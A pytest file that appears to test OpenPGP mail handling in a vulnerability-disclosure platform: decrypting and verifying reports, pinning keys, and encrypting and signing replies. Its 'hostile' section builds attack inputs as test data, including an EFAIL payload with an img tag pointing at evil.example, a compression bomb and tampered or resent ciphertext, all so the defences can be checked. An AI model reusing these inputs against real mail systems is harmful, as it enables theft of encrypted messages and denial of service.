"""Mail with OpenPGP: opened and verified on the way in, encrypted and signed on the way out; GnuPG is the other."""

from __future__ import annotations

import email.policy
import json
from datetime import UTC, datetime, timedelta
from email import message_from_bytes
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import pytest

from tests.apps.mail.conftest import Take
from tests.apps.mail.letters import DESK_ADDRESS, OUTER, OWNER, RITA, encrypted, give_key, in_envelope, page_of
from tests.gnupg import GnuPG, needs_gnupg
from tests.people import NOW
from vulndesk.apps.cases.queries import attachment_of
from vulndesk.apps.keys import actions as keys
from vulndesk.apps.keys.queries import encryption_to, keys_in, pinned_key
from vulndesk.apps.mail.models import ReceivedMail
from vulndesk.apps.notices.actions import reply_address_of
from vulndesk.apps.policies.models import Programme
from vulndesk.core.mail.openpgp import CannotEncrypt, KeyProblem, written_fingerprint

PGP_FOLDER = Path(__file__).parents[4] / "shared" / "conformance" / "pgpmime-own"
SECRET = (
    b"Content-Type: text/plain; charset=utf-8\r\nSubject: RCE in the parser\r\n\r\n"
    b"It reads past its end: caf\xc3\xa9\r\n"
)
pytestmark = pytest.mark.django_db
needs_collected = pytest.mark.skipif(
    not PGP_FOLDER.is_dir(), reason="SKIPPED: the collected mails are not beside this checkout"
)


@pytest.fixture(autouse=True)
def take_answers(settings: Any) -> None:
    settings.REPLY_ADDRESS = "{token}@reply.enix.example"


@pytest.fixture
def desk_key(enix: Programme, gpg: GnuPG) -> bytes:
    """The programme has a key, and Rita has its public half and a key of her own."""
    certificate = give_key(enix)
    gpg("--import", given=certificate)
    gpg.make(f"Rita <{RITA}>")
    return certificate


def said(mail: ReceivedMail) -> str:
    """What the team is told beside the message."""
    page = page_of(mail)
    return "\n".join((*page.body["other"].get("mail", ()), *(one.text for one in page.messages if one.kind == "note")))


def letter(text: str = "Fixed in 1.4.\nFrom now on, trailing \n-- \nTom é\n") -> EmailMessage:
    message = EmailMessage(policy=email.policy.SMTP)
    message["From"], message["To"], message["Subject"] = DESK_ADDRESS, RITA, "Your report: an answer"
    message["Message-ID"], message["In-Reply-To"] = "<a@enix.example>", "<1@example.org>"
    message.set_content(text)
    return message


# --- in ----------------------------------------------------------------------------------------------------------


@needs_gnupg
@pytest.mark.slow
def test_a_signed_and_encrypted_report_is_a_case_with_its_inner_subject_and_its_key_is_pinned(
    take: Take, gpg: GnuPG, desk_key: bytes
) -> None:
    attached = (
        b'Content-Type: multipart/mixed; boundary=M; protected-headers="v1"\r\nSubject: RCE in the parser\r\n\r\n'
        b"--M\r\nContent-Type: text/plain\r\n\r\nIt reads past its end.\r\n"
        b"--M\r\nContent-Type: application/pgp-keys; name=k.asc\r\n\r\n" + gpg.public(RITA) + b"\r\n--M--\r\n"
    )
    mail = take(encrypted(gpg, attached, sign=RITA))
    page = page_of(mail)
    assert (mail.outcome, page.title) == ("case", "RCE in the parser")
    assert page.body["report"]["description"] == "It reads past its end."
    fingerprint = written_fingerprint(gpg.fingerprint(RITA))
    assert f"Signed by a key that is not known here: {fingerprint}" in said(mail), "not pinned when it was read"
    (key,) = keys_in(page.case.pk, now=NOW)
    assert (key.state, key.fingerprint, key.source) == ("pinned", fingerprint, "signature")

    again = take(encrypted(gpg, SECRET, sign=RITA, name="2"), later=1, recipient=reply_address_of(page.case.pk))
    assert (again.outcome, again.case_id) == ("thread", page.case.pk)
    answers = [one.text for one in page_of(again).messages if one.from_reporter]
    assert answers == ["It reads past its end: café"]
    assert f"Signed by the pinned key {fingerprint}" in said(again)
    assert len(keys_in(page.case.pk, now=NOW)) == 1


@needs_gnupg
@pytest.mark.slow
def test_inline_text_is_opened_or_verified_and_what_stands_around_it_is_marked(
    take: Take, gpg: GnuPG, desk_key: bytes
) -> None:
    sealed = gpg("--armor", "--encrypt", "--recipient", DESK_ADDRESS, given="Hidden café".encode())
    hidden = take((OUTER % 1).encode() + b"Subject: s\r\n\r\nHello,\r\n\r\n" + sealed + b"\r\nRegards\r\n")
    assert page_of(hidden).body["report"]["description"].split("\n\n") == [
        "Hello,",
        "[What stands above is outside of the protected part of this mail: neither encrypted nor signed.]",
        "Hidden café",
        "[What follows is outside of the protected part of this mail: neither encrypted nor signed.]",
        "Regards",
    ]
    clear = gpg("--local-user", RITA, "--clear-sign", given=b"It leaks.\n- dashes -\n")
    keys.pin_key(page_of(hidden).case.pk, _known(gpg), now=NOW)
    signed = take((OUTER % 2).encode() + b"Subject: s\r\n\r\n" + clear, later=1, recipient=_address(hidden))
    assert [one.text for one in page_of(signed).messages if one.from_reporter] == ["It leaks.\n- dashes -"]
    assert "Signed by the pinned key" in said(signed)
    assert "Only a part" not in said(signed)
    forged = take(
        (OUTER % 3).encode() + b"Subject: s\r\n\r\n" + clear.replace(b"leaks", b"holds"), later=2,
        recipient=_address(hidden),
    )  # fmt: skip
    assert "Its signature does not hold" in said(forged)


def _address(mail: ReceivedMail) -> str:
    assert mail.case_id is not None
    return reply_address_of(mail.case_id)


def _known(gpg: GnuPG, user_id: str = RITA, source: str = "upload") -> keys.KnownKey:
    raw = gpg("--export", user_id)
    return keys.KnownKey(raw, gpg.fingerprint(user_id), (user_id,), source)


@needs_gnupg
@pytest.mark.slow
def test_a_key_that_lies_in_a_mail_waits_for_a_person_and_a_change_too(take: Take, gpg: GnuPG, desk_key: bytes) -> None:
    first = take(
        (OUTER % 1).encode()
        + b"Subject: s\r\nContent-Type: multipart/mixed; boundary=M\r\n\r\n--M\r\n\r\nIt leaks.\r\n"
        + b"--M\r\nContent-Type: application/pgp-keys; name=k.asc\r\n\r\n" + gpg.public(RITA) + b"\r\n--M--\r\n"
    )  # fmt: skip
    case_id = page_of(first).case.pk
    (offered,) = keys_in(case_id, now=NOW)
    assert (offered.state, offered.fingerprint) == ("offered", written_fingerprint(gpg.fingerprint(RITA)))
    assert encryption_to(case_id, now=NOW).problem is KeyProblem.MISSING
    keys.confirm_key(case_id, offered.id, by=OWNER, now=NOW)
    assert encryption_to(case_id, now=NOW).is_possible
    other = gpg.make("Rita <rita@example.org> (new)")
    take(encrypted(gpg, SECRET, sign=other, name="2"), later=1, recipient=_address(first))
    assert [one.state for one in keys_in(case_id, now=NOW)] == ["pinned"], "without the key there is nothing to offer"
    header = f"Autocrypt: addr={RITA}; keydata=\r\n {_base64(gpg, other)}\r\n"
    third = take(
        (OUTER % 3 + header).encode() + b"Subject: s\r\n\r\nA new key.\r\n", later=2, recipient=_address(first)
    )
    pinned, waiting = keys_in(case_id, now=NOW)
    assert (pinned.fingerprint, waiting.state) == (offered.fingerprint, "offered")
    assert "brought an OpenPGP key" in "\n".join(line.sentence for line in page_of(third).timeline)
    keys.confirm_key(case_id, waiting.id, by=OWNER, now=NOW)
    assert [one.state for one in keys_in(case_id, now=NOW)] == ["pinned", "replaced"]
    known = pinned_key(case_id)
    assert known is not None
    assert known.fingerprint == other


def _base64(gpg: GnuPG, user_id: str) -> str:
    import base64

    return base64.encodebytes(gpg("--export", user_id)).decode().replace("\n", "\r\n ").rstrip()


@needs_gnupg
def test_what_the_desk_has_no_key_for_is_a_case_that_names_the_key_ids(take: Take, gpg: GnuPG, desk_key: bytes) -> None:
    gpg.make("Other <other@example.org>")
    mail = take(encrypted(gpg, SECRET, to="other@example.org"))
    page = page_of(mail)
    assert mail.outcome == "case"
    assert "encrypted to keys that this desk does not have (key id " in page.body["report"]["description"]
    assert gpg.key_ids("other@example.org") & set(page.body["report"]["description"].replace(")", " ").split())
    assert {one.name for one in page.attachments} >= {"message.eml"}


@needs_gnupg
def test_what_was_encrypted_to_yesterdays_key_is_still_read_until_that_key_is_retired(
    take: Take, enix: Programme, gpg: GnuPG, desk_key: bytes
) -> None:
    sealed = [encrypted(gpg, SECRET, name=str(number)) for number in (1, 2)]
    old = gpg.fingerprint(DESK_ADDRESS)
    give_key(enix)
    assert page_of(take(sealed[0])).title == "RCE in the parser"
    (row,) = keys_of(enix, old)
    keys.retire_programme_key(enix.pk, row, by=OWNER, now=NOW)
    assert "this desk does not have" in page_of(take(sealed[1], later=1)).body["report"]["description"]


def keys_of(programme: Programme, fingerprint: str) -> list[Any]:
    from vulndesk.apps.keys.models import ProgrammeKey

    return list(
        ProgrammeKey.objects.filter(programme_id=programme.pk, fingerprint=fingerprint).values_list("pk", flat=True)
    )


# --- out ---------------------------------------------------------------------------------------------------------


@needs_gnupg
def test_an_answer_is_encrypted_to_the_pinned_key_with_its_subject_inside_and_gnupg_verifies_it(
    take: Take, enix: Programme, gpg: GnuPG, desk_key: bytes
) -> None:
    case_id = page_of(take(encrypted(gpg, SECRET))).case.pk
    keys.pin_key(case_id, _known(gpg), now=NOW)
    sent = bytes(keys.protect(letter(), programme_id=enix.pk, case_id=case_id, now=NOW))
    assert b"1.4" not in sent
    assert b"an answer" not in sent
    outer: Any = message_from_bytes(sent, policy=email.policy.default)
    assert (outer["Subject"], outer["To"], outer["In-Reply-To"]) == ("...", RITA, "<1@example.org>")
    assert outer.get_content_type() == "multipart/encrypted"
    version, sealed = outer.iter_parts()
    assert (version.get_content_type(), sealed.get_content_type()) == (
        "application/pgp-encrypted",
        "application/octet-stream",
    )
    done = gpg.run("--decrypt", given=sealed.get_payload(decode=True))
    (signed,) = (one for one in done.stderr.splitlines() if b" VALIDSIG " in one)
    assert signed.decode().split()[-1] == gpg.fingerprint(DESK_ADDRESS)
    inner: Any = message_from_bytes(done.stdout, policy=email.policy.default)
    assert inner["Subject"] == "Your report: an answer"
    assert inner.get_content().replace("\r\n", "\n") == str(letter().get_content()).replace("\r\n", "\n")


@needs_gnupg
def test_an_answer_in_clear_is_signed_so_that_gnupg_verifies_it_as_it_travels(
    enix: Programme, gpg: GnuPG, desk_key: bytes, tmp_path: Path
) -> None:
    sent = bytes(keys.sign(letter(), programme_id=enix.pk))
    for travelled in (sent, sent.replace(b"\r\n", b"\n")):
        outer: Any = message_from_bytes(travelled)
        boundary = str(outer.get_boundary()).encode()
        ending = b"\r\n" if b"\r\n" in travelled else b"\n"
        signed = travelled.split(b"--" + boundary + ending)[1].removesuffix(ending)
        (tmp_path / "signed").write_bytes(signed.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n"))
        (tmp_path / "s.asc").write_bytes(outer.get_payload()[1].get_payload(decode=True))
        gpg("--verify", str(tmp_path / "s.asc"), str(tmp_path / "signed"))
    assert outer.get_param("micalg") == "pgp-sha512"
    assert outer["Subject"] == "Your report: an answer"


def test_without_a_key_of_the_programme_a_message_goes_as_it_is(enix: Programme) -> None:
    message = letter()
    assert keys.sign(message, programme_id=enix.pk) is message


@needs_gnupg
@pytest.mark.abuse(13)
@pytest.mark.slow
def test_to_a_missing_expired_revoked_or_useless_key_nothing_is_written_at_all(
    take: Take, enix: Programme, gpg: GnuPG, desk_key: bytes
) -> None:
    """Abuse case 13."""
    made: dict[KeyProblem, keys.KnownKey] = {}
    gpg.make("Expiring <expiring@example.org>", expires="seconds=100")
    made[KeyProblem.EXPIRED] = _known(gpg, "expiring@example.org")
    gpg.make("Revoked <revoked@example.org>")
    gpg.revoke("revoked@example.org")
    made[KeyProblem.REVOKED] = _known(gpg, "revoked@example.org")
    gpg("--passphrase", "", "--quick-generate-key", "Signs <signs@example.org>", "ed25519", "sign", "0")
    made[KeyProblem.UNUSABLE] = _known(gpg, "signs@example.org")
    later = datetime.now(UTC) + timedelta(days=1)
    for number, (problem, key) in enumerate(made.items()):
        case_id = page_of(take(encrypted(gpg, SECRET, name=str(number)), later=number)).case.pk
        with pytest.raises(CannotEncrypt) as missing:
            keys.protect(letter(), programme_id=enix.pk, case_id=case_id, now=later)
        assert missing.value.problem is KeyProblem.MISSING
        keys.pin_key(case_id, key, now=NOW)
        with pytest.raises(CannotEncrypt) as refused:
            keys.protect(letter(), programme_id=enix.pk, case_id=case_id, now=later)
        assert refused.value.problem is problem
        assert encryption_to(case_id, now=later).problem is problem
        assert encryption_to(case_id, now=later).has_key, "so that no caller takes it for a reporter without a key"


# --- hostile -----------------------------------------------------------------------------------------------------


@needs_gnupg
@pytest.mark.abuse(12)
@pytest.mark.slow
def test_of_a_text_that_was_tampered_with_nothing_is_shown(take: Take, gpg: GnuPG, desk_key: bytes) -> None:
    """Abuse case 12: every byte of the sealed packet counts."""
    sealed = gpg("--compress-algo", "none", "--encrypt", "--recipient", DESK_ADDRESS, given=SECRET)
    for number, place in enumerate((-1, -25, -60, -len(SECRET) // 2)):
        broken = bytearray(sealed)
        broken[place] ^= 0x01
        mail = take(in_envelope(gpg("--enarmor", given=bytes(broken)).replace(b"ARMORED FILE", b"MESSAGE"),
                                name=str(number)), later=number)  # fmt: skip
        page = page_of(mail)
        assert mail.outcome == "case"
        assert "so nothing is shown" in page.body["report"]["description"]
        shown = "".join((page.title, *page.body["report"].values(), said(mail)))
        assert "RCE" not in shown
        assert "reads past" not in shown
        for one in page.attachments:
            assert b"reads past" not in b"".join(attachment_of(OWNER, one.id)[1])


@needs_gnupg
@pytest.mark.abuse(12)
def test_a_secret_between_two_html_parts_never_stands_in_one_text_with_them(
    take: Take, gpg: GnuPG, desk_key: bytes
) -> None:
    """EFAIL by direct exfiltration: the image's address would take the secret along (abuse case 12)."""
    inner = encrypted(gpg, b"Content-Type: text/plain\r\n\r\nthe secret\r\n").partition(b"\r\nSubject: ...\r\n")[2]
    mail = take(
        (OUTER % 1).encode() + b"Subject: s\r\nContent-Type: multipart/mixed; boundary=X\r\n\r\n"
        b'--X\r\nContent-Type: text/html\r\n\r\n<img src="https://evil.example/\r\n'
        b"--X\r\n" + inner + b'\r\n--X\r\nContent-Type: text/html\r\n\r\n">\r\n--X--\r\n'
    )
    pieces = page_of(mail).body["report"]["description"].split("\n\n")
    assert "the secret" in pieces
    assert not any("evil.example" in piece and "secret" in piece for piece in pieces)


@needs_gnupg
@pytest.mark.slow
@pytest.mark.abuse(14)
def test_a_bomb_is_refused_at_the_limit_and_the_next_mail_is_read(take: Take, gpg: GnuPG, desk_key: bytes) -> None:
    """Abuse case 14: 60 MB of nothing in some kilobytes."""
    for number, size in enumerate((60, 600)):
        bomb = gpg("--armor", "-z9", "--compress-algo", "zip", "--encrypt", "--recipient", DESK_ADDRESS,
                   given=b"Content-Type: text/plain\r\n\r\n" + bytes(size * 10**6))  # fmt: skip
        assert len(bomb) < 2_000_000
        mail = take(in_envelope(bomb, name=str(number)), later=number)
        page = page_of(mail)
        assert mail.outcome == "case"
        assert (
            "The mail is kept whole" in page.body["report"]["description"]
            or "memory" in page.body["report"]["description"]
        )
        assert sum(one.size for one in page.attachments) < 5_000_000
    assert page_of(take(encrypted(gpg, SECRET, name="9"), later=9)).title == "RCE in the parser"


@needs_gnupg
@pytest.mark.abuse(12)
def test_anothers_ciphertext_sent_to_a_case_of_ones_own_stays_closed(take: Take, gpg: GnuPG, desk_key: bytes) -> None:
    """Whoever caught Rita's mail on its way would otherwise read it on the page of their own report."""
    caught = encrypted(gpg, SECRET)
    assert page_of(take(caught)).title == "RCE in the parser"
    own = take(b"From: Eve <eve@example.org>\r\nMessage-ID: <9@example.org>\r\nSubject: Mine\r\n\r\nHi.\r\n", later=1)
    resent = take(
        caught.replace(RITA.encode(), b"eve@example.org").replace(b"<1@", b"<8@"), later=2, recipient=_address(own)
    )
    assert (resent.outcome, resent.case_id) == ("thread", own.case_id)
    page = page_of(resent)
    assert "came before in another case" in said(resent)
    assert not any("reads past" in one.text for one in page.messages)


# --- collected ---------------------------------------------------------------------------------------------------


@pytest.fixture
def collected_keys(enix: Programme) -> None:
    folder = PGP_FOLDER / "ref" / "keys"
    raw = (folder / "desk.sec.TEST-ONLY.asc").read_bytes()
    keys.import_programme_key(enix.pk, raw, by=OWNER, now=NOW)


@needs_collected
@pytest.mark.usefixtures("collected_keys")
@pytest.mark.slow
def test_the_collected_mails_end_as_was_written_down(take: Take) -> None:
    wanted: dict[str, dict[str, Any]] = json.loads((PGP_FOLDER / "expected.json").read_text())
    assert len(wanted) >= 13
    for number, (name, expected) in enumerate(sorted(wanted.items())):
        mail = take((PGP_FOLDER / f"{name}.eml").read_bytes(), later=number)
        assert mail.outcome == "case", name
        page = page_of(mail)
        text = page.body["report"]["description"]
        if expected.get("decrypts") is True:
            assert "PoC" in text, name
        if expected.get("decrypts") is False:
            assert "The mail is kept whole" in text, name
            assert "PoC" not in text, name
        if expected.get("decrypts") == "attachment":
            assert "poc.tar" in {one.name for one in page.attachments}
        if "title" in expected:
            assert page.title == expected["title"]
        if str(expected.get("signature")).startswith("good"):
            assert "Signed by a key that is not known here" in said(mail), name
        if expected.get("signature") == "invalid":
            assert "does not hold" in said(mail), name
        if expected.get("key_auto_trusted") is False:
            assert encryption_to(page.case.pk, now=NOW).problem is KeyProblem.MISSING
    assert "outside of the protected part" in text, "sig-wrapped-by-list comes last"
    assert text.endswith("list footer")


@needs_collected
@pytest.mark.usefixtures("collected_keys")
def test_a_collected_signature_is_good_once_its_key_is_pinned(take: Take) -> None:
    certificate = (PGP_FOLDER / "ref" / "keys" / "finder.pub.asc").read_bytes()
    fingerprint = "C5B1080EC9EF4EE789125B5506B43966B09C8F98"
    first = page_of(take((PGP_FOLDER / "enc.eml").read_bytes())).case.pk
    known = keys.KnownKey(certificate, fingerprint, ("finder@pgp.example",), "upload")
    keys.pin_key(first, known, address="finder@pgp.example", now=NOW)
    for number, name in enumerate(("sig-good", "sig-lf-canonical"), start=1):
        mail = take((PGP_FOLDER / f"{name}.eml").read_bytes(), later=number)
        assert f"key that is not known here: {written_fingerprint(fingerprint)}" in said(mail), "another case"
        pinned = pinned_key(page_of(mail).case.pk)
        assert pinned is not None
        assert pinned.fingerprint == fingerprint, "the same key as in the earlier report"
